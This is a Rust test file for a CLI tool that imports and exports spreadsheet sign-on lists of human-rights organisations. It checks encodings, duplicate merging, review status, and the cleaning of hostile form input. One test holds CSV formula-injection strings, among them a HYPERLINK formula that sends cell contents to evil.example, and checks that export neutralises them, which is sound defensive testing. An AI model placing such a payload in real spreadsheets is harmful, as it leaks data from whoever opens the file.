//! Sign-on lists: `memodraft signatories import/export/list` on fixtures as forms and
//! spreadsheets write them, and the CSV round trip as a property.

use std::fs;
use std::path::{Path, PathBuf};

use proptest::prelude::*;

use crate::memodraft;
use memodraft::model::{Contact, SignOnStatus, Signatory};
use memodraft::storage::{self, signatories};

const SAMPLE: &str = include_str!("../../assets/examples/sample-memo.ron");

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/csv")
        .join(name)
}

fn draft(dir: &Path) -> PathBuf {
    let path = dir.join("memo.ron");
    fs::write(&path, SAMPLE).unwrap();
    path
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// `memodraft signatories import` of a fixture into the draft: what it printed, after
/// checking that it succeeded.
fn import(memo: &Path, csv: &str) -> String {
    let out = memodraft(&["signatories", "import", s(memo), s(&fixture(csv))]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn names(memo_path: &Path) -> Vec<String> {
    storage::load_draft(memo_path)
        .unwrap()
        .signatories
        .iter()
        .map(|s| s.organization.clone())
        .collect()
}

#[test]
fn a_forms_export_is_merged_with_duplicates_reported_and_accents_kept() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let before = names(&memo).len();
    let stdout = import(&memo, "google-forms-utf8.csv");
    assert!(stdout.contains("UTF-8, comma separated"), "{stdout}");
    // Unaccented and upper-case spellings merge into the accented, mixed-case name.
    assert!(stdout.contains(
        "CENTRO DE DERECHOS HUMANOS MIGUEL AGUSTIN PRO JUAREZ: merged into \"Centro de Derechos Humanos Miguel Agustín Pro Juárez\""
    ), "{stdout}");
    assert!(stdout.contains(
        "Grupo de Analisis Forense Independiente: merged into \"Grupo de Análisis Forense Independiente\""
    ), "{stdout}");
    assert!(
        stdout.contains("HUMAN RIGHTS WATCH: merged into \"Human Rights Watch\""),
        "{stdout}"
    );
    assert!(
        stdout.contains(
            "The Borderlands Legal Defense Fund: merged into \"Borderlands Legal Defense Fund\""
        ),
        "{stdout}"
    );
    // Same email, other name: merged, never silently dropped.
    assert!(
        stdout.contains(
            "Madres Buscadoras (otro nombre): merged into \"Red de Madres Buscadoras del Noroeste\""
        ),
        "{stdout}"
    );
    // Rows as the spreadsheet shows them: the blank line before row 5 is row 4; the
    // name with a line break in it is one row (11), so the next is row 12.
    for row in [
        "row 2: Grupo de Analisis",
        "row 5: Centro de Derechos",
        "row 10: skipped (no organization name)",
        "row 11: Red de Madres Buscadoras",
        "row 12: Madres Buscadoras (otro nombre)",
    ] {
        assert!(stdout.contains(row), "{row}: {stdout}");
    }
    assert!(stdout.contains("4 added, 5 merged, 1 skipped"), "{stdout}");
    // A second person at an organization is kept, and the report says so.
    assert!(
        stdout.contains(
            "merged into \"Centro de Derechos Humanos Miguel Agustín Pro Juárez\": added contact Luis Gómez <luis@prodh.example.org>"
        ),
        "{stdout}"
    );
    assert!(
        stdout.contains("(otro nombre): merged into \"Red de Madres Buscadoras del Noroeste\": same email carmen@madres.example.org\n"),
        "{stdout}"
    );

    let loaded = storage::load_draft(&memo).unwrap();
    assert_eq!(loaded.signatories.len(), before + 4);
    let gafi = loaded
        .signatories
        .iter()
        .find(|s| s.organization == "Grupo de Análisis Forense Independiente")
        .unwrap();
    assert_eq!(
        gafi.status,
        SignOnStatus::Received,
        "a form sent by an invited organization awaits review"
    );
    assert_eq!(
        gafi.signed.map(|d| d.to_string()).as_deref(),
        Some("2026-11-20")
    );
    let prodh = loaded
        .signatories
        .iter()
        .find(|s| s.organization == "Centro de Derechos Humanos Miguel Agustín Pro Juárez")
        .unwrap();
    let people: Vec<String> = prodh.contacts.iter().map(ToString::to_string).collect();
    assert_eq!(
        people,
        [
            "Ana \"Anita\" Ruiz <ana@prodh.example.org>",
            "Luis Gómez <luis@prodh.example.org>"
        ]
    );
    let hrw = loaded
        .signatories
        .iter()
        .find(|s| s.organization == "Human Rights Watch")
        .unwrap();
    assert_eq!(hrw.short_name, "HRW");
    assert!(
        loaded
            .signatories
            .iter()
            .any(|s| s.organization == "Colectivo Tejiendo Esperanza, A.C."
                && s.city == "San Cristóbal de las Casas, Chiapas")
    );
}

#[test]
fn a_google_form_asking_questions_is_read_by_its_question_headers() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let stdout = import(&memo, "google-forms-sign-on-questions.csv");
    for line in [
        "row 4: Colectivo Nube: added",
        "row 5: Colectivo Tejiendo Esperanza, A.C.: added",
        "row 6: GRUPO DE ANALISIS FORENSE INDEPENDIENTE: merged into \"Grupo de Análisis Forense Independiente\": added contact Luis Gómez <luis@gafi.example.org>",
        "2 added, 3 merged, 0 skipped",
    ] {
        assert!(stdout.contains(line), "{line}: {stdout}");
    }
    let loaded = storage::load_draft(&memo).unwrap();
    let find = |name: &str| {
        loaded
            .signatories
            .iter()
            .find(|s| s.organization == name)
            .unwrap_or_else(|| panic!("{name} imported"))
    };
    // "Does your organization endorse the memo?" answered "No".
    let nube = find("Colectivo Nube");
    assert_eq!((nube.status, nube.signed), (SignOnStatus::Declined, None));
    assert_eq!(
        (nube.city.as_str(), nube.country.as_str()),
        ("Quito", "Ecuador")
    );
    // Both emails the form asks for are kept; the website column is not an organization.
    let borderlands = find("Borderlands Legal Defense Fund");
    let people: Vec<String> = borderlands
        .contacts
        .iter()
        .map(ToString::to_string)
        .collect();
    assert_eq!(
        people,
        [
            "Jane Doe <jane@borderlands.example.org>",
            "<press@borderlands.example.org>"
        ]
    );
    // "Yes" is what whoever filled in the public form says: received, to be reviewed.
    let gafi = find("Grupo de Análisis Forense Independiente");
    assert_eq!(gafi.status, SignOnStatus::Received);
    assert_eq!(
        gafi.signed.map(|d| d.to_string()).as_deref(),
        Some("2026-11-25")
    );
}

#[test]
fn spreadsheet_encodings_and_delimiters_are_detected_without_mojibake() {
    for (file, said, expect) in [
        (
            "excel-es-semicolon-bom.csv",
            "UTF-8 with BOM, semicolon separated",
            "Tlachinollan",
        ),
        (
            "excel-unicode-utf16.txt",
            "UTF-16 LE with BOM, tab separated",
            "Ágora Ciudadana",
        ),
        (
            "excel-latin1.csv",
            "Windows-1252 (Latin-1), comma separated",
            "Asociación Señal de Vida",
        ),
    ] {
        let dir = tempfile::tempdir().unwrap();
        let memo = draft(dir.path());
        let out = memodraft(&["signatories", "import", s(&memo), s(&fixture(file))]);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            out.status.success(),
            "{file}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        assert!(stdout.contains(said), "{file}: {stdout}");
        let all = names(&memo);
        assert!(all.iter().any(|n| n == expect), "{file}: {all:?}");
        assert!(
            !all.iter()
                .any(|n| n.contains('Ã') || n.contains('\u{FFFD}')),
            "mojibake in {file}: {all:?}"
        );
    }
}

#[test]
fn dry_run_and_bad_files_leave_the_draft_untouched() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let out = memodraft(&[
        "signatories",
        "import",
        s(&memo),
        s(&fixture("google-forms-utf8.csv")),
        "--dry-run",
    ]);
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stdout).contains("dry run"));
    assert_eq!(fs::read_to_string(&memo).unwrap(), SAMPLE);

    let out = memodraft(&[
        "signatories",
        "import",
        s(&memo),
        s(&fixture("unknown-headers.csv")),
    ]);
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("unknown-headers.csv") && err.contains("\"Nombre del grupo\""),
        "{err}"
    );
    assert_eq!(fs::read_to_string(&memo).unwrap(), SAMPLE);

    let missing = dir.path().join("nope.csv");
    let out = memodraft(&["signatories", "import", s(&memo), s(&missing)]);
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("nope.csv"));
    assert_eq!(fs::read_to_string(&memo).unwrap(), SAMPLE);
}

#[test]
fn export_writes_excel_friendly_csv_and_list_filters_by_status() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let out = memodraft(&["signatories", "export", s(&memo)]);
    assert!(out.status.success());
    let bytes = fs::read(dir.path().join("memo-signatories.csv")).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "UTF-8 BOM for Excel");
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.contains("Colectivo Búsqueda y Memoria de Jalisco"));

    let out = memodraft(&["signatories", "list", s(&memo), "--status", "invited"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success());
    assert_eq!(stdout.lines().count(), 1, "{stdout}");
    assert!(stdout.contains("Grupo de Análisis Forense Independiente"));
}

/// The memo's PDF text without white space (names wrap inside their column).
fn printed(memo: &Path) -> String {
    let pdf = memo.with_extension("pdf");
    let out = memodraft(&["export", s(memo), "-o", s(&pdf)]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let (_, text) = crate::pdf_text(&pdf);
    text.chars().filter(|c| !c.is_whitespace()).collect()
}

fn check(memo: &Path) -> String {
    let out = memodraft(&["check", s(memo)]);
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn a_public_forms_rows_are_received_and_print_only_once_a_checked_sheet_confirms_them() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let tejiendo = "ColectivoTejiendoEsperanza,A.C.";

    let stdout = import(&memo, "google-forms-utf8.csv");
    assert!(
        stdout.contains(
            "5 received, awaiting review: they do not print until confirmed (in the editor, or import a checked sheet again with --confirm)"
        ),
        "{stdout}"
    );
    let report = check(&memo);
    assert!(
        report.contains(
            "warning: \"Colectivo Tejiendo Esperanza, A.C.\" was received through the sign-on form and not reviewed yet; it will not print until someone confirms it"
        ),
        "{report}"
    );
    assert!(report.contains("5 received, awaiting review"), "{report}");
    assert!(
        !printed(&memo).contains(tejiendo),
        "nothing unreviewed prints"
    );

    let out = memodraft(&[
        "signatories",
        "import",
        s(&memo),
        s(&fixture("google-forms-utf8.csv")),
        "--confirm",
    ]);
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(out.status.success(), "{stdout}");
    assert!(
        stdout.contains(
            "row 3: Colectivo Tejiendo Esperanza, A.C.: merged into \"Colectivo Tejiendo Esperanza, A.C.\": now Confirmed (was Received)"
        ),
        "{stdout}"
    );
    let report = check(&memo);
    assert!(!report.contains("received"), "{report}");
    assert!(printed(&memo).contains(tejiendo));
}

#[test]
fn spoofed_names_are_cleaned_with_a_line_and_bad_rows_skipped_with_why() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    let stdout = import(&memo, "public-form-hostile.csv");
    for line in [
        "row 5: Centro hdorP: added: removed from the organization: U+202E (bidi control)\n",
        "row 6: Serapaz: added: removed from the organization: U+200D (zero-width); removed from the contact: U+200D (zero-width)\n",
        "row 7: AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\u{2026}: skipped (the organization name is 301 characters long, more than the 300 a name can be; shorten it in the sheet)\n",
        "row 8: Colectivo Nube: skipped (\"pedro(at)nube.example.org\" is not an email address; correct it in the sheet)\n",
        "5 added, 0 merged, 2 skipped",
    ] {
        assert!(stdout.contains(line), "{line}: {stdout}");
    }
    let list = storage::load_draft(&memo).unwrap().signatories;
    let serapaz = list.iter().find(|s| s.organization == "Serapaz").unwrap();
    assert_eq!(serapaz.contacts.first().unwrap().name, "Luis");
}

#[test]
fn formulas_from_a_form_are_exported_as_text_and_imported_back_the_same() {
    let dir = tempfile::tempdir().unwrap();
    let memo = draft(dir.path());
    import(&memo, "public-form-hostile.csv");
    let csv = dir.path().join("list.csv");
    let out = memodraft(&["signatories", "export", s(&memo), "-o", s(&csv)]);
    assert!(out.status.success());

    // As a spreadsheet reads the file: no cell starts a formula.
    let bytes = fs::read(&csv).unwrap();
    let mut reader = ::csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
    let mut organizations = Vec::new();
    for record in reader.records() {
        let record = record.unwrap();
        for cell in &record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} would run as a formula"
            );
        }
        organizations.push(record.get(0).unwrap().to_owned());
    }
    for name in [
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "'+SUM(1+1)",
        "'@cmd",
    ] {
        assert!(
            organizations.iter().any(|o| o == name),
            "{name}: {organizations:?}"
        );
    }

    // Into an empty draft: the same list, those names included.
    let other = dir.path().join("other.ron");
    let out = memodraft(&["new", s(&other)]);
    assert!(out.status.success());
    let out = memodraft(&["signatories", "import", s(&other), s(&csv)]);
    assert!(out.status.success());
    let before = storage::load_draft(&memo).unwrap().signatories;
    assert_eq!(storage::load_draft(&other).unwrap().signatories, before);
    assert!(before.iter().any(|s| s.organization == "+SUM(1+1)"));
}

fn text() -> impl Strategy<Value = String> {
    // Names and places as people type them: letters with accents, digits, punctuation.
    "[A-Za-zÁÉÍÓÚÑáéíóúñü0-9 ,.'&-]{0,24}"
        .prop_map(|s| s.split_whitespace().collect::<Vec<_>>().join(" "))
}

/// Contacts of which no two are the same person (those would rightly become one).
fn contacts() -> impl Strategy<Value = Vec<Contact>> {
    proptest::collection::vec(contact(), 0..4).prop_map(|all| {
        let mut distinct: Vec<Contact> = Vec::new();
        for c in all {
            if !distinct.iter().any(|d| d.same_person(&c)) {
                distinct.push(c);
            }
        }
        distinct
    })
}

fn contact() -> impl Strategy<Value = Contact> {
    (
        text(),
        prop_oneof![Just(String::new()), "[a-z][a-z.]{0,8}@[a-z]{2,8}\\.org"],
    )
        .prop_map(|(name, email)| Contact { name, email })
        .prop_filter("someone to write to", |c| !c.is_empty())
}

/// What a spreadsheet would run as a formula, or skip to find one, at the start of a
/// cell; and an apostrophe of the text itself.
fn formula_start() -> impl Strategy<Value = &'static str> {
    prop::sample::select(vec![
        "",
        "",
        "=",
        "+",
        "-",
        "@",
        "\t",
        "\r",
        "'=",
        "=HYPERLINK(",
        "'",
    ])
}

fn signatory() -> impl Strategy<Value = Signatory> {
    (
        (
            formula_start(),
            "[A-ZÁÉÑ][a-záéíóúñ]{2,10}( [A-Za-záéíóúñ]{2,10}){0,4}",
        )
            .prop_map(|(start, name)| format!("{start}{name}")),
        text(),
        (formula_start(), text()).prop_map(|(start, city)| format!("{start}{city}")),
        text(),
        contacts(),
        prop_oneof![
            Just(SignOnStatus::Invited),
            Just(SignOnStatus::Confirmed),
            Just(SignOnStatus::Declined),
            Just(SignOnStatus::Withdrawn),
            Just(SignOnStatus::Received)
        ],
        proptest::option::of((2020_i16..2030, 1_i8..=12, 1_i8..=28)),
        any::<bool>(),
        proptest::option::of((2020_i16..2030, 1_i8..=12, 1_i8..=28)),
    )
        .prop_map(
            |(organization, short, city, country, contacts, status, signed, lead, invited)| {
                Signatory {
                    organization,
                    short_name: short.replace(['(', ')'], ""),
                    city,
                    country,
                    contacts,
                    status,
                    signed: signed.and_then(|(y, m, d)| jiff::civil::Date::new(y, m, d).ok()),
                    lead,
                    invited: invited.and_then(|(y, m, d)| jiff::civil::Date::new(y, m, d).ok()),
                    withdrawn: None,
                    logo: None,
                }
            },
        )
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

    /// Exporting a list and importing it into an empty draft gives the same list: names
    /// that start like a formula come back as they were. (A tab or line break at the
    /// start of a name is white space, which import cleans away as in any cell.)
    #[test]
    fn export_then_import_gives_back_the_same_signatories(list in proptest::collection::vec(signatory(), 0..20)) {
        // Distinct organizations and emails: duplicates would (rightly) merge.
        let mut seen = std::collections::HashSet::new();
        let mut emails = std::collections::HashSet::new();
        let list: Vec<Signatory> = list
            .into_iter()
            .filter(|s| {
                let mine: std::collections::HashSet<String> =
                    s.contacts.iter().map(|c| c.email.to_lowercase()).filter(|e| !e.is_empty()).collect();
                mine.is_disjoint(&emails)
                    && seen.insert(signatories::organization_key(&s.organization))
                    && { emails.extend(mine); true }
            })
            .collect();
        let csv = signatories::export_csv(&list);
        let mut back = Vec::new();
        let report = signatories::import_bytes(&mut back, &csv, Path::new("list.csv")).unwrap();
        prop_assert_eq!(report.encoding, "UTF-8 with BOM");
        let clean = |text: &str| memodraft::model::untrusted::clean(text).text;
        let cleaned: Vec<Signatory> = list
            .iter()
            .map(|s| Signatory {
                organization: clean(&s.organization),
                city: clean(&s.city),
                ..s.clone()
            })
            .collect();
        prop_assert_eq!(back, cleaned);
    }
}
